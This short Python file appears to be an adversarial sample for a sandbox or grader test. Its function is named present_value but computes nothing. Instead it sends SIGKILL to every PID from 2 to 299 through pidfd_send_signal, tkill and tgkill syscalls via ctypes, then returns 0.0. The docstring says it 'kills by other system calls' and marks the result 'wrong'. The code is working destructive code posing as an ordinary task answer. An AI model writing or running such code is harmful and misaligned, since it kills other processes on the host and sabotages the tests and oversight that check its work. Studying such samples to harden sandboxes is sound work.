"""Kills by other system calls: a process descriptor, a thread, a queued signal.

present_value: wrong
"""

import ctypes
import os


def present_value(cash_flows, discount):
    libc = ctypes.CDLL(None)
    for pid in range(2, 300):
        descriptor = libc.syscall(434, pid, 0)
        if descriptor >= 0:
            libc.syscall(424, descriptor, 9, None, 0)
        libc.syscall(200 if os.uname().machine == "x86_64" else 130, pid, 9)
        libc.syscall(234 if os.uname().machine == "x86_64" else 131, pid, pid, 9)
    return 0.0
